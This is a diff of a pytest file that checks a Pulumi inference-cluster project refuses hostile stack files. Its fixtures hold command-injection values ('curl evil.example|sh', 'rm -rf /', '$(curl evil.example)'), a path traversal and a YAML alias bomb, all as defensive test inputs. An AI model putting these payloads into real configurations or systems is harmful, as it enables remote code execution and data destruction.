@@ -1,11 +1,11 @@
 """Hostile stack files: every one must be refused, the same way, by both ways in.
 
-What flows through here: a shipped stack file, read with `infra.stackfile.parse`, mutated
+What flows through here: a shipped stack file, read with `tools.stackfile.parse`, mutated
 into something invalid or dangerous, and written back as `Pulumi.<case>.yaml` ->
-1. the `pulumi up` path: the real program under mocks (`infra.mock_runtime.run`) must raise
+1. the `pulumi up` path: the real program under mocks (`tools.mock_runtime.run`) must raise
    `pulumi.RunError` whose message is ONE line naming `stacks/Pulumi.<case>.yaml` and the key,
    with nothing registered before it;
-2. the `make render` path: `python -m infra.render --stack <case>` in a subprocess, reading the
+2. the `make render` path: `python -m tools.render --stack <case>` in a subprocess, reading the
    file from a temporary folder (PD_STACKS_DIR), must exit 1 with exactly one line on stderr
    (no traceback) naming the file and the key, and write nothing.
 Files that are not a stack file at all (not YAML, not a mapping) never reach the program under
@@ -19,18 +19,19 @@ import copy
 import os
 import subprocess
 import sys
+from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
-from typing import Any, Callable
+from typing import Any
 
 import pulumi
 import pytest
 import yaml
 
-from infra import mock_runtime, stackfile
-from infra.config import PROJECT, SECRET_KEYS
+from infra.model.config import PROJECT, SECRET_KEYS
+from infra.paths import ROOT
+from tools import mock_runtime, stackfile
 
-ROOT = stackfile.ROOT
 SECURE = "v1:placeholder:hostile"
 
 
@@ -106,12 +107,15 @@ EXISTING_VPC = {
     "efaSubnetId": "subnet-0bbbbbbbbbbbbbbb9",  # not one of the private subnets: another zone
 }
 
+
 def _alias_bomb() -> str:
     """The dev stack with a 'billion laughs' in engineKwargs: 9^8 values from 9 short lines."""
     lines = ['      a0: &a0 ["x", "x", "x", "x", "x", "x", "x", "x", "x"]']
     lines += [f"      a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
     text = (ROOT / "stacks" / "Pulumi.dev.yaml").read_text()
-    return text.replace("  pd-inference:apiKeys:", "    engineKwargs:\n" + "\n".join(lines) + "\n  pd-inference:apiKeys:")
+    return text.replace(
+        "  pd-inference:apiKeys:", "    engineKwargs:\n" + "\n".join(lines) + "\n  pd-inference:apiKeys:"
+    )
 
 
 CASES: list[Hostile] = [
@@ -121,12 +125,20 @@ CASES: list[Hostile] = [
     Hostile("wrong-type-bool-env", "dev", _set("environment", True), "environment"),
     Hostile("yaml-float-version", "staging", _set("kubernetesVersion", 1.3), "kubernetesVersion"),
     Hostile("unknown-top-key", "prod", _set("endpointAcess", "private"), "endpointAcess"),
-    Hostile("unknown-nested-key", "staging", _set("nodePools.prefill.instanceTyp", "p4de.24xlarge"),
-            "nodePools.prefill.instanceTyp"),
+    Hostile(
+        "unknown-nested-key",
+        "staging",
+        _set("nodePools.prefill.instanceTyp", "p4de.24xlarge"),
+        "nodePools.prefill.instanceTyp",
+    ),
     Hostile("unknown-environment", "dev", _set("environment", "qa"), "environment"),
     # --- instances and the EFA zone ----------------------------------------------------
-    Hostile("unknown-instance", "prod", _set("nodePools.prefill.instanceType", "p9.96xlarge"),
-            "nodePools.prefill.instanceType"),
+    Hostile(
+        "unknown-instance",
+        "prod",
+        _set("nodePools.prefill.instanceType", "p9.96xlarge"),
+        "nodePools.prefill.instanceType",
+    ),
     Hostile("gpu-system-nodes", "dev", _set("systemNodes.instanceType", "p5.48xlarge"), "systemNodes.instanceType"),
     Hostile("zones-of-another-region", "staging", _set("aws:region", "eu-west-1"), "availabilityZones"),
     Hostile("efa-subnet-other-zone", "prod", _set("existingVpc", EXISTING_VPC), "efaSubnetId"),
@@ -134,12 +146,19 @@ CASES: list[Hostile] = [
     Hostile("efa-mixed-pools", "dev", _set("nodePools.prefill.instanceType", "p4de.24xlarge"), "nodePools"),
     Hostile("single-zone", "dev", _set("availabilityZones", ["us-east-2a"]), "availabilityZones"),
     # --- parallelism and replicas -------------------------------------------------------
-    Hostile("tp-beyond-node", "prod", _all(_set("serving.prefill.tensorParallelSize", 16),
-                                           _set("serving.decode.tensorParallelSize", 16)),
-            "serving.prefill.tensorParallelSize"),
+    Hostile(
+        "tp-beyond-node",
+        "prod",
+        _all(_set("serving.prefill.tensorParallelSize", 16), _set("serving.decode.tensorParallelSize", 16)),
+        "serving.prefill.tensorParallelSize",
+    ),
     Hostile("tp-mismatch", "prod", _set("serving.decode.tensorParallelSize", 4), "tensorParallelSize"),
-    Hostile("tp-not-power-of-two", "staging", _set("serving.decode.tensorParallelSize", 6),
-            "serving.decode.tensorParallelSize"),
+    Hostile(
+        "tp-not-power-of-two",
+        "staging",
+        _set("serving.decode.tensorParallelSize", 6),
+        "serving.decode.tensorParallelSize",
+    ),
     Hostile("zero-replicas", "dev", _set("serving.prefill.minReplicas", 0), "serving.prefill.minReplicas"),
     Hostile("negative-replicas", "dev", _set("serving.decode.maxReplicas", -1), "serving.decode.maxReplicas"),
     Hostile("replicas-max-below-min", "prod", _set("serving.decode.maxReplicas", 1), "serving.decode"),
@@ -147,9 +166,12 @@ CASES: list[Hostile] = [
     Hostile("pool-too-small", "prod", _set("nodePools.decode.maxSize", 2), "nodePools.decode.maxSize"),
     # --- cluster -------------------------------------------------------------------------
     Hostile("kubernetes-too-old", "prod", _set("kubernetesVersion", "1.27"), "kubernetesVersion"),
-    Hostile("public-endpoint-in-prod", "prod", _all(_set("endpointAccess", "public-and-private"),
-                                                    _set("publicAccessCidrs", ["198.51.100.0/24"])),
-            "endpointAccess"),
+    Hostile(
+        "public-endpoint-in-prod",
+        "prod",
+        _all(_set("endpointAccess", "public-and-private"), _set("publicAccessCidrs", ["198.51.100.0/24"])),
+        "endpointAccess",
+    ),
     Hostile("public-endpoint-no-allow-list", "dev", _del("publicAccessCidrs"), "publicAccessCidrs"),
     Hostile("endpoint-open-to-internet", "dev", _set("publicAccessCidrs", ["0.0.0.0/0"]), "publicAccessCidrs"),
     Hostile("bad-admin-arn", "prod", _set("adminRoleArns", ["arn:aws:iam::123:user/root"]), "adminRoleArns"),
@@ -159,8 +181,9 @@ CASES: list[Hostile] = [
     Hostile("cidr-public-vpc", "staging", _set("vpcCidr", "8.8.0.0/16"), "vpcCidr"),
     Hostile("service-open-v4", "prod", _set("serviceAllowedCidrs", ["0.0.0.0/0"]), "serviceAllowedCidrs"),
     Hostile("service-open-v6", "prod", _set("serviceAllowedCidrs", ["::/0"]), "serviceAllowedCidrs"),
-    Hostile("endpoint-open-in-halves", "dev", _set("publicAccessCidrs", ["0.0.0.0/1", "128.0.0.0/1"]),
-            "publicAccessCidrs"),
+    Hostile(
+        "endpoint-open-in-halves", "dev", _set("publicAccessCidrs", ["0.0.0.0/1", "128.0.0.0/1"]), "publicAccessCidrs"
+    ),
     Hostile("service-v6-too-wide", "prod", _set("serviceAllowedCidrs", ["2000::/3"]), "serviceAllowedCidrs"),
     Hostile("nlb-without-allow-list", "prod", _del("serviceAllowedCidrs"), "serviceAllowedCidrs"),
     # --- secrets and auth ----------------------------------------------------------------
@@ -171,32 +194,60 @@ CASES: list[Hostile] = [
     Hostile("redis-password-plain-text", "prod", _set("gcsRedisPassword", "hunter2"), "gcsRedisPassword"),
     Hostile("auth-disabled-staging", "staging", _set("serving.auth", "disabled"), "serving.auth"),
     Hostile("redis-without-address", "prod", _del("gcsRedisAddress"), "gcsRedisAddress"),
-    Hostile("redis-address-injection", "prod", _set("gcsRedisAddress", "redis:6379;curl evil.example|sh"),
-            "gcsRedisAddress"),
+    Hostile(
+        "redis-address-injection", "prod", _set("gcsRedisAddress", "redis:6379;curl evil.example|sh"), "gcsRedisAddress"
+    ),
     # --- what ends up in commands and names ----------------------------------------------
     Hostile("model-id-shell", "dev", _set("serving.model.id", "qwen; rm -rf /"), "serving.model.id"),
-    Hostile("model-source-shell", "dev", _set("serving.model.source", "Qwen/Qwen$(curl evil.example)"),
-            "serving.model.source"),
-    Hostile("model-source-traversal", "prod", _set("serving.model.source", "s3://pd-inference-prod-models/../other"),
-            "serving.model.source"),
-    Hostile("model-source-local-path", "staging", _set("serving.model.source", "/models/llama"),
-            "serving.model.source"),
+    Hostile(
+        "model-source-shell",
+        "dev",
+        _set("serving.model.source", "Qwen/Qwen$(curl evil.example)"),
+        "serving.model.source",
+    ),
+    Hostile(
+        "model-source-traversal",
+        "prod",
+        _set("serving.model.source", "s3://pd-inference-prod-models/../other"),
+        "serving.model.source",
+    ),
+    Hostile(
+        "model-source-local-path", "staging", _set("serving.model.source", "/models/llama"), "serving.model.source"
+    ),
     Hostile("model-bucket-mismatch", "prod", _set("modelBucket", "someone-elses-bucket"), "modelBucket"),
     Hostile("namespace-kube-system", "dev", _set("namespace", "kube-system"), "namespace"),
     Hostile("namespace-of-an-add-on", "prod", _set("namespace", "kuberay-system"), "namespace"),
-    Hostile("reserved-engine-kwarg", "dev", _set("serving.engineKwargs", {"tensor_parallel_size": 2}),
-            "serving.engineKwargs"),
+    Hostile(
+        "reserved-engine-kwarg",
+        "dev",
+        _set("serving.engineKwargs", {"tensor_parallel_size": 2}),
+        "serving.engineKwargs",
+    ),
     # --- images and capacity ---------------------------------------------------------------
     Hostile("image-latest", "prod", _set("rayImage", "rayproject/ray-llm:latest"), "rayImage"),
     Hostile("image-nightly", "prod", _set("rayImage", "rayproject/ray-llm:nightly-py311-cu128"), "rayImage"),
     Hostile("image-untagged", "staging", _set("rayImage", "rayproject/ray-llm"), "rayImage"),
-    Hostile("capacity-block-no-reservation", "prod", _set("nodePools.prefill.capacityType", "capacity-block"),
-            "nodePools.prefill"),
-    Hostile("capacity-block-bad-reservation", "prod", _all(
+    Hostile(
+        "capacity-block-no-reservation",
+        "prod",
         _set("nodePools.prefill.capacityType", "capacity-block"),
-        _set("nodePools.prefill.capacityReservationId", "cr-123; rm")), "nodePools.prefill"),
-    Hostile("reservation-without-block", "prod", _set("nodePools.decode.capacityReservationId", "cr-0123456789abcdef0"),
-            "nodePools.decode"),
+        "nodePools.prefill",
+    ),
+    Hostile(
+        "capacity-block-bad-reservation",
+        "prod",
+        _all(
+            _set("nodePools.prefill.capacityType", "capacity-block"),
+            _set("nodePools.prefill.capacityReservationId", "cr-123; rm"),
+        ),
+        "nodePools.prefill",
+    ),
+    Hostile(
+        "reservation-without-block",
+        "prod",
+        _set("nodePools.decode.capacityReservationId", "cr-0123456789abcdef0"),
+        "nodePools.decode",
+    ),
     Hostile("root-volume-tiny", "staging", _set("nodePools.decode.rootVolumeGiB", 8), "nodePools.decode.rootVolumeGiB"),
     # --- files that are not stack files ----------------------------------------------------
     Hostile("not-yaml", "dev", None, "not valid YAML", text="config:\n  pd-inference:environment: [dev\n"),
@@ -205,8 +256,13 @@ CASES: list[Hostile] = [
     Hostile("config-is-a-list", "dev", None, "config", text="config:\n  - pd-inference:environment: dev\n"),
     Hostile("empty-file", "dev", None, "environment", text=""),
     Hostile("alias-bomb", "dev", None, "anchors and aliases", text=_alias_bomb()),
-    Hostile("alias-cycle", "dev", None, "anchors and aliases",
-            text="config:\n  pd-inference:environment: dev\n  pd-inference:serving: &s {engineKwargs: {loop: *s}}\n"),
+    Hostile(
+        "alias-cycle",
+        "dev",
+        None,
+        "anchors and aliases",
+        text="config:\n  pd-inference:environment: dev\n  pd-inference:serving: &s {engineKwargs: {loop: *s}}\n",
+    ),
 ]
 
 
@@ -256,8 +312,12 @@ def test_render_path_refuses(case: Hostile, tmp_path: Path) -> None:
     out = tmp_path / "out"
     env = {**os.environ, "PD_STACKS_DIR": str(stacks_dir)}
     proc = subprocess.run(
-        [sys.executable, "-m", "infra.render", "--stack", case.id, "--out", str(out)],
-        cwd=ROOT, env=env, capture_output=True, text=True, timeout=120,
+        [sys.executable, "-m", "tools.render", "--stack", case.id, "--out", str(out)],
+        cwd=ROOT,
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
     )
     assert proc.returncode == 1, f"{case.id}: exit {proc.returncode}\n{proc.stdout}\n{proc.stderr}"
     _one_line(proc.stderr, case)
